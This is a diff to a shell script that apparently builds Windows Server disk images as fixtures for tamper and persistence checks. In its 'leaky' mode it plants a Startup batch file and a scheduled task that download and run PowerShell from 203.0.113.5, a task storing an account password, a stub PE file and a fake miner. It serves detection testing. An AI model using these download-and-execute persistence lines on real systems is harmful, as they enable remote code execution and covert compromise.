@@ -177,6 +177,33 @@ if [ "$mode" = compressed ]; then
     getfattr -h -e hex -n system.ntfs_attrib_be "m/Windows/WinSxS/$f" | grep -q '=0x0*8..$' || { echo "$f is not compressed" >&2; exit 1; }
   done
 fi
+# Persistence (the tamper checks). Every image: what a stock Windows Server holds — the
+# all-users Startup folder with its desktop.ini, a built-in scheduled task (XML in UTF-16, as
+# Task Scheduler writes it). The leaky image adds a Startup script that fetches and runs code,
+# a task that stores its account's password, a task that runs a downloaded script, a PE file
+# left in Windows\Temp and a miner under ProgramData.
+task() { # FILE LOGONTYPE COMMAND ARGUMENTS
+  mkdir -p "$(dirname "$1")"
+  { printf '\xff\xfe'; printf '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <Principals>\r\n    <Principal id="Author">\r\n      <UserId>%s</UserId>\r\n      <LogonType>%s</LogonType>\r\n    </Principal>\r\n  </Principals>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>%s</Command>\r\n      <Arguments>%s</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>\r\n' \
+      "$5" "$2" "$3" "$4" | iconv -f UTF-8 -t UTF-16LE; } > "$1"
+}
+startup="m/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
+mkdir -p "$startup"
+printf '[.ShellClassInfo]\r\nLocalizedResourceName=@%%SystemRoot%%\\system32\\shell32.dll,-21787\r\n' > "$startup/desktop.ini"
+task m/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag S4U '%windir%\system32\defrag.exe' '-c -h -o -$' 'S-1-5-18'
+if [ "$mode" != clean ]; then
+  printf '@echo off\r\npowershell -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString(\x27http://203.0.113.5/a.ps1\x27)"\r\n' > "$startup/update.bat"
+  task m/Windows/System32/Tasks/NightlyBuild Password 'C:\Tools\build.exe' '--nightly' 'EC2AMAZ-BUILD\deploy'
+  task m/Windows/System32/Tasks/Updater InteractiveToken powershell.exe '-nop -c &quot;iwr http://203.0.113.5/u.ps1 | iex&quot;' 'Administrator'
+  # A PE image: the DOS header with e_lfanew, the PE signature and a COFF header (amd64).
+  python3 -c "
+import struct,sys,os
+b=bytearray(0x400); b[0:2]=b'MZ'; struct.pack_into('<I',b,0x3C,0x80); b[0x80:0x84]=b'PE\0\0'
+struct.pack_into('<HH',b,0x84,0x8664,1); b[0x200:]=os.urandom(0x200)
+sys.stdout.buffer.write(bytes(b))" > m/Windows/Temp/setup.exe
+  mkdir -p m/ProgramData/svc
+  head -c 4096 /dev/urandom > m/ProgramData/svc/xmrig.exe
+fi
 # A harmless stream on a system file, in every image.
 setfattr -n user.Zone.Identifier -v $'[ZoneTransfer]\r\nZoneId=3\r\n' "m/Program Files/Amazon/EC2Launch/EC2Launch.exe"
 
